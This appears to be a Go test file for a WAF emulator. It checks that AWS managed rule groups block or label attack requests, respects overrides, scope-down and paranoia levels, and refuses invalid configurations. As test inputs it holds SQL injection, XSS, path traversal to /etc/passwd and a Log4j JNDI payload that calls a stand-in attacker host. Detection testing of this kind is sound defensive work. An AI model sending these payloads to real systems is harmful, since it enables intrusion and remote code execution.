package waf

import (
	"errors"
	"strings"
	"testing"
)

func sqliACL(override string, extra string) string {
	return aclWithRules(`{"Name":"sqli","Priority":1,
		"Statement":{"ManagedRuleGroupStatement":{"VendorName":"AWS","Name":"AWSManagedRulesSQLiRuleSet"` + extra + `}},
		"OverrideAction":` + override + `,` + vis("sqli") + `}`)
}

func TestSQLiGroupBlocksInjectionAndPassesCleanRequests(t *testing.T) {
	e := newTestEngine(t, Config{})
	acl := mustCompile(t, e, sqliACL(`{"None":{}}`, ""), Sets{})
	d := decide(t, acl, get("192.0.2.1", "/items?id=1'%20OR%20'1'='1"))
	if !d.Blocked() || d.TerminatingRule != "sqli" {
		t.Fatalf("injection: %+v, want blocked by sqli", d)
	}
	if !contains(d.Labels, "awswaf:managed:aws:sql-database:SQLi_QueryArguments") {
		t.Errorf("labels %v lack SQLi_QueryArguments", d.Labels)
	}
	clean := decide(t, acl, get("192.0.2.1", "/items?id=42&sort=asc"))
	if clean.Blocked() || len(clean.Labels) != 0 {
		t.Fatalf("clean request: %+v, want allowed without labels", clean)
	}
}

func contains(list []string, s string) bool {
	for _, v := range list {
		if v == s {
			return true
		}
	}
	return false
}

func TestSQLiGroupLocationsAndOverrides(t *testing.T) {
	e := newTestEngine(t, Config{})
	injection := "1' OR '1'='1"
	body := &Request{Method: "POST", Path: "/items", Proto: "HTTP/1.1", Host: "api.example.com",
		Header: map[string][]string{"User-Agent": {"t"}, "Content-Type": {"application/x-www-form-urlencoded"}},
		Body:   "id=" + injection, ClientIP: get("192.0.2.1", "/").ClientIP}
	cookie := get("192.0.2.1", "/items", "Cookie", "session="+injection)

	acl := mustCompile(t, e, sqliACL(`{"None":{}}`, ""), Sets{})
	for name, c := range map[string]struct {
		r     *Request
		label string
	}{"body": {body, "SQLi_Body"}, "cookie": {cookie, "SQLi_Cookie"}} {
		d := decide(t, acl, c.r)
		if !d.Blocked() || !contains(d.Labels, "awswaf:managed:aws:sql-database:"+c.label) {
			t.Errorf("%s: %+v, want blocked with %s", name, d, c.label)
		}
	}

	// Count override: nothing blocks, the labels still land for later rules.
	counted := mustCompile(t, e, aclWithRules(`{"Name":"sqli","Priority":1,
		"Statement":{"ManagedRuleGroupStatement":{"VendorName":"AWS","Name":"AWSManagedRulesSQLiRuleSet"}},
		"OverrideAction":{"Count":{}},`+vis("sqli")+`},`+
		blockRule("on-sqli-label", 2, `{"LabelMatchStatement":{"Scope":"NAMESPACE","Key":"awswaf:managed:aws:sql-database:"}}`)), Sets{})
	d := decide(t, counted, get("192.0.2.1", "/items?id=1'%20OR%20'1'='1"))
	if !d.Blocked() || d.TerminatingRule != "on-sqli-label" {
		t.Fatalf("count override + label rule: %+v, want blocked by on-sqli-label", d)
	}
	if got := counterValue(t, e, counted.ARN(), "sqli", "COUNT"); got != 1 {
		t.Errorf("the overridden group counted %v, want 1", got)
	}

	// Excluding (or overriding to Count) the query rules lets query
	// injections through, and not body ones.
	for _, extra := range []string{
		`,"ExcludedRules":[{"Name":"SQLi_QUERYARGUMENTS"},{"Name":"SQLiExtendedPatterns_QUERYARGUMENTS"}]`,
		`,"RuleActionOverrides":[{"Name":"SQLi_QUERYARGUMENTS","ActionToUse":{"Count":{}}},{"Name":"SQLiExtendedPatterns_QUERYARGUMENTS","ActionToUse":{"Count":{}}}]`,
	} {
		acl := mustCompile(t, e, sqliACL(`{"None":{}}`, extra), Sets{})
		if d := decide(t, acl, get("192.0.2.1", "/items?id=1'%20OR%20'1'='1")); d.Blocked() {
			t.Errorf("%s: query injection blocked", extra)
		} else if !contains(d.Labels, "awswaf:managed:aws:sql-database:SQLi_QueryArguments") {
			t.Errorf("%s: counted rule left no label: %v", extra, d.Labels)
		}
		if d := decide(t, acl, body); !d.Blocked() {
			t.Errorf("%s: body injection passed", extra)
		}
	}

	// Scope-down: the group only looks at /admin.
	scoped := mustCompile(t, e, sqliACL(`{"None":{}}`, `,"ScopeDownStatement":`+byteMatchDoc("/admin", `{"UriPath":{}}`, "STARTS_WITH")), Sets{})
	if d := decide(t, scoped, get("192.0.2.1", "/items?id=1'%20OR%20'1'='1")); d.Blocked() {
		t.Error("scope-down: a request outside the scope was inspected")
	}
	if d := decide(t, scoped, get("192.0.2.1", "/admin?id=1'%20OR%20'1'='1")); !d.Blocked() {
		t.Error("scope-down: a request inside the scope passed")
	}
}

func TestCommonAndKnownBadInputsGroups(t *testing.T) {
	e := newTestEngine(t, Config{})
	group := func(name string) *ACL {
		return mustCompile(t, e, aclWithRules(`{"Name":"g","Priority":0,"Statement":{"ManagedRuleGroupStatement":{"VendorName":"AWS","Name":"`+name+`"}},"OverrideAction":{"None":{}},`+vis("g")+`}`), Sets{})
	}
	common, bad := group("AWSManagedRulesCommonRuleSet"), group("AWSManagedRulesKnownBadInputsRuleSet")
	noAgent := get("192.0.2.1", "/")
	noAgent.Header.Del("User-Agent")
	cases := []struct {
		name  string
		acl   *ACL
		r     *Request
		label string // "" means it must pass
	}{
		{"clean", common, get("192.0.2.1", "/items?page=2"), ""},
		{"no user agent", common, noAgent, "awswaf:managed:aws:core-rule-set:NoUserAgent_Header"},
		{"long query", common, get("192.0.2.1", "/?q="+strings.Repeat("a", 2100)), "awswaf:managed:aws:core-rule-set:SizeRestrictions_QueryString"},
		{"XSS in query", common, get("192.0.2.1", "/?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E"), "awswaf:managed:aws:core-rule-set:CrossSiteScripting_QueryArguments"},
		{"LFI in query", common, get("192.0.2.1", "/?file=../../../../etc/passwd"), "awswaf:managed:aws:core-rule-set:GenericLFI_QueryArguments"},
		{"scanner user agent", common, get("192.0.2.1", "/", "User-Agent", "sqlmap/1.7"), "awswaf:managed:aws:core-rule-set:BadBots_Header"},
		{"clean known bad", bad, get("192.0.2.1", "/items"), ""},
		{"propfind", bad, &Request{Method: "PROPFIND", Path: "/", Host: "h", Header: map[string][]string{"User-Agent": {"t"}}}, "awswaf:managed:aws:known-bad-inputs:Propfind_Method"},
		{"localhost host", bad, &Request{Method: "GET", Path: "/", Host: "localhost:8080", Header: map[string][]string{"User-Agent": {"t"}}}, "awswaf:managed:aws:known-bad-inputs:Host_Localhost_Header"},
		{"log4j", bad, get("192.0.2.1", "/", "X-Api-Version", "${jndi:ldap://evil.example/a}"), "awswaf:managed:aws:known-bad-inputs:Log4JRCE_Header"},
		{"web-inf", bad, get("192.0.2.1", "/app/WEB-INF/web.xml"), "awswaf:managed:aws:known-bad-inputs:ExploitablePaths_URIPath"},
	}
	for _, c := range cases {
		d := decide(t, c.acl, c.r)
		switch {
		case c.label == "" && (d.Blocked() || len(d.Labels) > 0):
			t.Errorf("%s: %+v, want a clean pass", c.name, d)
		case c.label != "" && (!d.Blocked() || !contains(d.Labels, c.label)):
			t.Errorf("%s: %+v, want blocked with %s", c.name, d, c.label)
		}
	}
}

func TestManagedGroupRefusals(t *testing.T) {
	e := newTestEngine(t, Config{})
	compile := func(stmt, override string) error {
		_, err := e.Compile(decodeACL(t, aclWithRules(`{"Name":"g","Priority":0,"Statement":{"ManagedRuleGroupStatement":`+stmt+`},`+override+vis("g")+`}`)), Sets{})
		return err
	}
	var unavailable *UnavailableError
	if err := compile(`{"VendorName":"AWS","Name":"AWSManagedRulesAmazonIpReputationList"}`, `"OverrideAction":{"None":{}},`); !errors.As(err, &unavailable) || !strings.Contains(err.Error(), "threat intelligence") {
		t.Errorf("IP reputation list: %v, want UnavailableError explaining why", err)
	}
	for _, c := range []struct{ stmt, override, want string }{
		{`{"VendorName":"AWS","Name":"AWSManagedRulesSQLiRuleSet"}`, `"Action":{"Block":{}},`, "OverrideAction"},
		{`{"VendorName":"AWS","Name":"AWSManagedRulesSQLiRuleSet"}`, ``, "OverrideAction"},
		{`{"VendorName":"AWS","Name":"AWSManagedRulesSQLiRuleSet","ExcludedRules":[{"Name":"NoSuchRule"}]}`, `"OverrideAction":{"None":{}},`, "has no rule NoSuchRule"},
		{`{"VendorName":"AWS","Name":"AWSManagedRulesSQLiRuleSet","RuleActionOverrides":[{"Name":"SQLi_BODY","ActionToUse":{"Captcha":{}}}]}`, `"OverrideAction":{"None":{}},`, "CAPTCHA"},
		{`{"VendorName":"AWS","Name":"AWSManagedRulesSQLiRuleSet","Version":"Version_9.9"}`, `"OverrideAction":{"None":{}},`, "CRS_4.25.0_PL1"},
		{`{"VendorName":"AWS","Name":"AWSManagedRulesSQLiRuleSet","ManagedRuleGroupConfigs":[{"LoginPath":"/login"}]}`, `"OverrideAction":{"None":{}},`, "ManagedRuleGroupConfigs"},
	} {
		if err := compile(c.stmt, c.override); err == nil || !strings.Contains(err.Error(), c.want) {
			t.Errorf("%s %s: %v, want an error mentioning %q", c.stmt, c.override, err, c.want)
		}
	}
}

func TestParanoiaLevelChangesWhatTheGroupSees(t *testing.T) {
	e := newTestEngine(t, Config{})
	// A request only paranoia level 2 rules flag (942432: several
	// special characters in one argument).
	r := get("192.0.2.1", "/?a=%7C%7C%7C%7C%7C%7C%7C%7C%7C%7C%7C%7C%7C%7C%7C%7C%7C%7C%7C%7C")
	pl1 := mustCompile(t, e, sqliACL(`{"None":{}}`, `,"Version":"CRS_4.25.0_PL1"`), Sets{})
	pl4 := mustCompile(t, e, sqliACL(`{"None":{}}`, `,"Version":"CRS_4.25.0_PL4"`), Sets{})
	if d := decide(t, pl1, r); d.Blocked() {
		t.Fatalf("PL1 blocked %+v", d)
	}
	if d := decide(t, pl4, r); !d.Blocked() {
		t.Fatalf("PL4 let it through: %+v", d)
	}
}
